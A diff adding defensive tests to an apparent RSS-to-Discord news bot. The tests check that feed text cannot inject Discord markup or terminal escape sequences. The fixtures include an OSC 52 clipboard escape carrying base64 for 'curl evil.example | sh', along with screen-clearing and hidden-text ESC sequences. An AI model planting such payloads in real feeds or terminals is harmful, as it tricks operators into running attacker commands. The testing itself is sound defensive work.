@@ -503,3 +503,114 @@ def test_app_home_lists_a_digest_only_to_members_of_its_channel_or_managers(
     assert all(c in seen["U1"] for c in ("GPRIVATE1", "CPUBLIC2", "CPUBLIC3")), seen["U1"]
     assert "GPRIVATE1" not in seen["U4"] and "CPUBLIC" not in seen["U4"], seen["U4"]
     assert "Traceback" not in bot.output
+
+
+DISCORD_MARKUP = ["</layoffs:1>", "<t:0:R>", "<:verified:1>", "<a:alarm:2>"]
+
+
+def test_discord_replies_show_feed_text_that_looks_like_discord_markup_as_text(
+    tmp_path: Path,
+) -> None:
+    """Only mentions were neutralised: a feed could put a clickable slash-command chip
+    (`</layoffs:1>`), a timestamp shown in each reader's zone (`<t:0:R>`) or the custom
+    emoji of any server (`<:verified:1>`) into a story's embed."""
+    from tests.test_e2e_discord import FakeDiscordThread, _add_primed_feed, _stored_items
+
+    feed = rss(
+        "Layoffs Desk <:verified:1>",
+        [
+            _story(
+                "Initech to cut 300 support jobs as AI chatbot takes over <:verified:1>",
+                "https://news.example/initech",
+                # Escaped once more: the feed's HTML text holds the markup as text.
+                "Initech said its AI chatbot now handles the work of 300 support agents "
+                + " ".join(m.replace("<", "&lt;").replace(">", "&gt;") for m in DISCORD_MARKUP)
+                + ".",
+            )
+        ],
+    )
+    with FeedServer() as server:
+        server.route("/feed.xml", body=feed)
+        _add_primed_feed(tmp_path, server.url("/feed.xml"))
+        with FakeDiscordThread() as discord:
+            fake = discord.fake
+            env = bot_env(
+                tmp_path, DISCORD_TOKEN="fake-token", LAYOFFBOT_DISCORD_API_URL=fake.api_url
+            )
+            with bot_process(tmp_path, env) as bot:
+                bot.wait_for("discord ready", lambda: "discord ready" in bot.stderr)
+                bot.wait_for("the feed polled", lambda: _stored_items(tmp_path) == 1)
+                payload = fake.command_interaction("company", {"company": "Initech"})
+                discord.call(fake.interact(payload))
+                bot.wait_for("the reply", lambda: bool(fake.followups_for(payload)))
+                bot.stop(signal.SIGTERM)
+    reply = " ".join(str(c.json) for c in fake.followups_for(payload))
+    assert "Initech" in reply and "t:0:R>" in reply, reply
+    for markup in DISCORD_MARKUP:
+        assert markup not in reply, (markup, reply)
+
+
+ESC = "\x1b"
+CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: set the clipboard
+TERMINAL_CONTROLS = [ESC, "\x07", "\x9b", "\x90", "\x00"]
+
+
+def _terminal_hostile_feed(company: str = "Initech") -> bytes:
+    return rss(
+        f"Desk{CLIPBOARD}{ESC}]0;pwned\x07",
+        [
+            _story(
+                f"{company} to cut 300 support jobs as AI chatbot takes over{ESC}[2J{ESC}[8m",
+                f"https://news.example/{company.lower()}",
+                f"{company} said its AI chatbot now handles the work{chr(0x9B)}31m of 300 agents"
+                f"{CLIPBOARD}.",
+            )
+        ],
+    )
+
+
+def _assert_no_terminal_controls(text: str) -> None:
+    assert not [c for c in TERMINAL_CONTROLS if c in text], repr(text)
+
+
+def test_a_feed_cannot_send_terminal_escapes_to_whoever_reads_it_in_a_terminal(
+    tmp_path: Path, bots: list[BotProcess]
+) -> None:
+    """A feed's name and headlines reached the terminal with their ESC sequences (`feeds
+    add`, `feeds list`, `poll`, `tag`, the console): a retitled or cleared screen, hidden
+    text, or (OSC 52) a command put on the operator's clipboard."""
+    from tests.test_e2e_discord import _add_primed_feed
+
+    with FeedServer() as server:
+        server.route("/feed.xml", body=_terminal_hostile_feed())
+        server.route("/new.xml", body=_terminal_hostile_feed("Globex"))
+        url = server.url("/feed.xml")
+        outputs = []
+        added = cli("feeds", "add", url, tmp_path=tmp_path)
+        assert "Added Desk" in added.stdout, added.stdout + added.stderr
+        for args in (("feeds", "list"), ("poll", "--all"), ("tag", "--format", "table", url)):
+            done = cli(*args, tmp_path=tmp_path)
+            assert done.returncode == 0, done.stdout + done.stderr
+            outputs.append(done.stdout + done.stderr)
+        assert "Initech" in outputs[-1] and "Desk" in outputs[0], outputs
+        # The console announces what a poll finds: a primed feed's story, its headline.
+        _add_primed_feed(tmp_path, server.url("/new.xml"))
+        bot = start_bot(tmp_path)
+        bots.append(bot)
+        bot.wait_for_lines(r"\[new\].*Globex", timeout=30)
+        assert bot.stop() < STOP_WITHIN
+    for text in [added.stdout + added.stderr, *outputs, bot.output]:
+        _assert_no_terminal_controls(text)
+
+
+def test_feed_names_stored_before_controls_were_dropped_cannot_reach_the_terminal(
+    tmp_path: Path,
+) -> None:
+    from bot.store import Store
+
+    store = Store.open(f"sqlite:///{tmp_path}/bot.db")
+    store.add_feed("https://news.example/rss", f"Old desk{CLIPBOARD}")
+    store.engine.dispose()
+    done = cli("feeds", "list", tmp_path=tmp_path)
+    assert "Old desk" in done.stdout, done.stdout + done.stderr
+    _assert_no_terminal_controls(done.stdout)
